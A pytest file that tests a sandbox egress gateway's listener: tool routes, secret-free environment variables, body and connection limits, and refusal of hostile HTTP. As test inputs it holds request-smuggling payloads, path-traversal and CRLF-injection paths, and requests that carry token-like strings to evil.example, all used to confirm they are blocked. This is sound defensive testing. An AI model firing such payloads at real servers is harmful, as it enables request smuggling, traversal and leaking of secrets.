"""One sandbox's listener: routes, tools, limits, and what hostile HTTP gets."""

import asyncio
import json
from typing import Any

import pytest
from tests.egress.conftest import KEY, OpenBox, anthropic, grant
from tests.egress.stub import always, answer, message, stub, until

from ironworks.core.errors import ConfigError
from ironworks.core.settings import NetworkSettings
from ironworks.egress import client
from ironworks.egress.attachment import CONNECTIONS, DENIALS
from ironworks.egress.gateway import Gateway


async def echo_tools(verb: str, body: bytes) -> tuple[int, bytes]:
    return (404, b"no such verb") if verb == "nothing" else (200, json.dumps([verb, len(body)]).encode())


@pytest.mark.spec("EG-21")
async def test_tools_get_the_verb_and_the_body(open_box: OpenBox) -> None:
    async with open_box(tools=echo_tools) as box:
        reply = await box.ask("POST", "/tools/check", body=b"\x00\xff" * 1000)
        assert reply.json == ["check", 2000]
        assert reply.headers["content-type"] == "application/json"
        reply = await box.ask("POST", "/tools/nothing")
        assert (reply.status, reply.body) == (404, b"no such verb")
        assert reply.headers["content-type"].startswith("text/plain")
        assert (await box.ask("GET", "/tools/check")).status == 405
        assert [(await box.ask("POST", f"/tools/{verb}")).status for verb in ("", "a/b", "CHECK")] == [
            404
        ] * 3


@pytest.mark.spec("EG-21")
async def test_a_sandbox_without_tools_has_none(open_box: OpenBox) -> None:
    async with open_box() as box:
        assert (await box.ask("POST", "/tools/check")).status == 404


async def test_a_tool_that_fails_is_a_500_and_the_next_request_is_served(
    open_box: OpenBox, caplog: pytest.LogCaptureFixture
) -> None:
    async def broken(verb: str, body: bytes) -> tuple[int, bytes]:
        raise ZeroDivisionError("inside")

    async with open_box(tools=broken) as box:
        for _ in range(2):
            reply = await box.ask("POST", "/tools/check")
            assert reply.status == 500
            assert b"inside" not in reply.body
    assert "ZeroDivisionError" in caplog.text


@pytest.mark.spec("EG-22")
async def test_the_environment_names_the_routes_and_holds_no_secret(open_box: OpenBox) -> None:
    providers = {
        "claude": anthropic("http://127.0.0.1:9"),
        "second-one": anthropic("http://127.0.0.1:9"),
        "gpt": anthropic("http://127.0.0.1:9", kind="openai"),
    }
    async with open_box(providers=providers) as box:
        env = box.attachment.env
        assert env["IRONWORKS_PROVIDER_SECOND_ONE_URL"] == "http://127.0.0.1:3128/second-one"
        assert env["ANTHROPIC_BASE_URL"] == "http://127.0.0.1:3128/claude"
        assert env["OPENAI_BASE_URL"] == "http://127.0.0.1:3128/gpt/v1"
        assert env["ANTHROPIC_API_KEY"] == env["OPENAI_API_KEY"] == "dummy"
        assert env["https_proxy"] == env["HTTP_PROXY"] == "http://127.0.0.1:3128"
        assert "127.0.0.1" in env["no_proxy"]
        assert env["IW_URL"] == "http://127.0.0.1:3128/tools"
        assert KEY not in str(env)


@pytest.mark.spec("EG-22")
@pytest.mark.parametrize("more", [{"network": NetworkSettings(headers={"x.example": {"x": "env:KEY"}})}, {"providers": {"tools": anthropic("http://x.example", key=None)}}])  # fmt: skip # noqa: E501
def test_what_cannot_work_is_an_error_when_the_gateway_is_made(more: dict[str, Any]) -> None:
    def missing(where: str) -> str:
        raise ConfigError(f"{where} is not set")

    parts: dict[str, Any] = {"providers": {}, "network": NetworkSettings(), **more}
    with pytest.raises(ConfigError):
        Gateway(**parts, ledger=None, secrets=missing, clock=None, on_event=lambda event, key: None)  # type: ignore[arg-type]


async def test_a_listener_outlives_its_attachment_and_can_be_attached_again(open_box: OpenBox) -> None:
    async with open_box(tools=echo_tools) as box:
        first = box.attachment
        assert (await box.ask("POST", "/tools/a")).status == 200
        before = first.last_traffic_s
        await first.close()
        await first.close()
        waiting = asyncio.create_task(box.ask("POST", "/tools/b"))
        await asyncio.sleep(0.05)
        assert not waiting.done()
        second = box.gateway.attach(box.listener, grant(key="again"), tools=echo_tools)
        assert (await waiting).json == ["b", 0]
        assert second.last_traffic_s >= before == first.last_traffic_s


async def test_requests_share_a_connection(open_box: OpenBox) -> None:
    async with open_box(tools=echo_tools) as box:
        reader, writer = await asyncio.open_connection("127.0.0.1", box.port)
        request = b"POST /tools/%s HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}"
        writer.write(request % b"one" + request % b"two" + request % b"three")
        for verb in (b"one", b"two", b"three"):
            await asyncio.wait_for(reader.readuntil(verb), 20)
        writer.close()


SMUGGLING = {
    "length and chunks": "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1",
    "two lengths": "Content-Length: 4\r\nContent-Length: 40\r\n\r\nabcd",
    "signed length": "Content-Length: +4\r\n\r\nabcd",
    "unknown coding": "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "coded twice": "Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n",
    "space before colon": "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "bad chunk size": "Transfer-Encoding: chunked\r\n\r\nzz\r\nabcd\r\n0\r\n\r\n",
    "chunk longer than said": "Transfer-Encoding: chunked\r\n\r\n2\r\nabcd\r\n0\r\n\r\n",
    "nul in a field": "X: a\x00b\r\n\r\n",
    "two hosts": "Host: evil.example\r\n\r\n",
    "line without colon": "junk\r\n\r\n",
}


@pytest.mark.spec("EG-19")
@pytest.mark.parametrize("rest", SMUGGLING.values(), ids=SMUGGLING)
@pytest.mark.parametrize("target", ["http://up.example:{port}/x", "/claude/v1/messages"])
async def test_a_request_with_two_readings_reaches_nobody(open_box: OpenBox, rest: str, target: str) -> None:
    async with stub(always(answer(message()))) as up:
        rules = grant(allow=(f"up.example:{up.port}=127.0.0.1",))
        async with open_box(providers={"claude": anthropic(up.url)}, grant=rules) as box:
            line = f"POST {target.format(port=up.port)} HTTP/1.1\r\nHost: up.example\r\n"
            reply = await box.raw((line + rest).encode())
            assert reply.startswith((b"HTTP/1.1 4", b"HTTP/1.1 501"))
            assert up.seen == []
            assert up.broken == 0


@pytest.mark.spec("EG-19")
@pytest.mark.parametrize(
    "path",
    [
        "/claude/v1/messages/../models", "/claude/v1/messages/%2e%2e/models",
        "/claude/v1/%252e%252e/messages",
        "/claude/./v1/messages", "/claude/v1\\..\\messages", "/claude/v1/..;/messages",
        "/claude/v1/messages%00",
        "/x/../claude/v1/messages", "/claude/v1/messages%0d%0aX:1", "/claude/v1/messages%23",
    ],
)  # fmt: skip
async def test_a_path_with_two_readings_reaches_nobody(open_box: OpenBox, path: str) -> None:
    async with (
        stub(always(answer(message()))) as up,
        open_box(providers={"claude": anthropic(up.url)}) as box,
    ):
        reply = await box.raw(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
        assert reply.startswith(b"HTTP/1.1 400")
        assert up.seen == []


@pytest.mark.parametrize(
    "data",
    [
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"\x05\x01\x00\r\n\r\n",
        b"\r\n\r\n\r\n",
        b"GET /\r\n\r\n",
        b"\x16\x03\x01\r\n\r\n",
    ],
)
async def test_other_protocols_are_told_no(open_box: OpenBox, data: bytes) -> None:
    async with open_box() as box:
        assert (await box.raw(data)).startswith((b"HTTP/1.1 4", b""))
        assert (await box.ask("GET", "/nothing")).status == 404


@pytest.mark.parametrize(
    ("method", "target", "status"), [("TRACE", "/claude/v1/messages", 405), ("GET", "/", 404)]
)
async def test_other_requests_are_told_no(open_box: OpenBox, method: str, target: str, status: int) -> None:
    async with open_box(providers={"claude": anthropic("http://127.0.0.1:9")}) as box:
        assert (await box.ask(method, target)).status == status


@pytest.mark.spec("EG-20")
async def test_a_head_that_is_too_large_is_refused_readably(open_box: OpenBox) -> None:
    async with open_box(tools=echo_tools) as box:
        data = b"POST /tools/a HTTP/1.1\r\nHost: x\r\nX: " + b"a" * (client.HEAD_BYTES * 3) + b"\r\n\r\n"
        assert (await box.raw(data)).startswith(b"HTTP/1.1 431")


@pytest.mark.spec("EG-20")
@pytest.mark.parametrize("framing", ["Content-Length: 41943040", "Transfer-Encoding: chunked"])
async def test_a_body_that_is_too_large_is_refused_readably(open_box: OpenBox, framing: str) -> None:
    async with open_box(tools=echo_tools) as box:
        head = f"POST /tools/a HTTP/1.1\r\nHost: x\r\n{framing}\r\n\r\n".encode()
        chunk = bytes(1 << 20) if "Length" in framing else b"100000\r\n" + bytes(1 << 20) + b"\r\n"
        reply = await box.raw(head + chunk * 40)
        assert reply.startswith(b"HTTP/1.1 413")
        assert b"32 MiB" in reply


@pytest.mark.spec("EG-20")
async def test_a_large_body_within_the_limit_passes_also_when_the_client_asks_first(
    open_box: OpenBox,
) -> None:
    async with open_box(tools=echo_tools) as box:
        reader, writer = await asyncio.open_connection("127.0.0.1", box.port)
        size = 31 << 20
        writer.write(
            b"POST /tools/a HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: %d\r\n\r\n" % size
        )
        await asyncio.wait_for(reader.readuntil(b"100 \r\n\r\n"), 20)
        writer.write(bytes(size))
        await asyncio.wait_for(reader.readuntil(str(size).encode()), 20)
        writer.close()


@pytest.mark.spec("EG-20")
async def test_all_bodies_of_a_sandbox_together_are_limited_and_the_room_comes_back(
    open_box: OpenBox,
) -> None:
    answer_now = asyncio.Event()

    async def slow(verb: str, body: bytes) -> tuple[int, bytes]:
        await answer_now.wait()
        return 200, b"[]"

    async with open_box(tools=slow) as box:
        body = bytes(30 << 20)
        calls = [asyncio.create_task(box.ask("POST", "/tools/a", body=body)) for _ in range(4)]
        done, _ = await asyncio.wait(calls, return_when=asyncio.FIRST_COMPLETED, timeout=30)
        assert [call.result().status for call in done] == [503]
        answer_now.set()
        assert sorted([(await call).status for call in calls]) == [200, 200, 200, 503]
        assert (await box.ask("POST", "/tools/a", body=body)).status == 200


@pytest.mark.spec("EG-20")
async def test_a_slow_sender_is_cut_off_and_delays_nobody(open_box: OpenBox) -> None:
    async with open_box(tools=echo_tools, limits=client.Limits(head_s=0.5)) as box:
        slow = [await asyncio.open_connection("127.0.0.1", box.port) for _ in range(CONNECTIONS - 1)]
        for _, writer in slow:
            writer.write(b"POST /tools/a HT")
        assert (await box.ask("POST", "/tools/b")).status == 200
        for reader, writer in slow:
            assert (await asyncio.wait_for(reader.read(), 20)).startswith(b"HTTP/1.1 408")
            writer.close()


@pytest.mark.spec("EG-20")
async def test_connections_beyond_the_limit_wait_for_their_turn(open_box: OpenBox) -> None:
    async with open_box(tools=echo_tools) as box:
        held = [await asyncio.open_connection("127.0.0.1", box.port) for _ in range(CONNECTIONS)]
        await until(lambda: len(box.attachment._clients) == CONNECTIONS)
        waiting = asyncio.create_task(box.ask("POST", "/tools/late"))
        await asyncio.sleep(0.1)
        assert not waiting.done()
        for _, writer in held:
            writer.close()
        assert (await waiting).status == 200


@pytest.mark.spec("EG-13")
async def test_a_sandbox_cannot_fill_the_event_log(open_box: OpenBox) -> None:
    async with open_box() as box:
        reader, writer = await asyncio.open_connection("127.0.0.1", box.port)
        for number in range(DENIALS + 50):
            writer.write(f"GET http://n{number}.example/ HTTP/1.1\r\nHost: x\r\n\r\n".encode())
            await asyncio.wait_for(reader.readuntil(b"}"), 20)
        writer.close()
        assert len(box.events_of("EgressDenied")) == DENIALS
        assert len({key for _, key in box.events}) == DENIALS


async def test_no_event_holds_what_a_sandbox_put_into_a_path(open_box: OpenBox) -> None:
    async with open_box() as box:
        await box.ask("GET", "http://evil.example/sk-test-path?key=sk-test-query")
        await box.ask("POST", "/host/evil.example/x?key=sk-test-query", body=b"")
        assert len(box.events) == 2
        assert "sk-test" not in str(box.events)
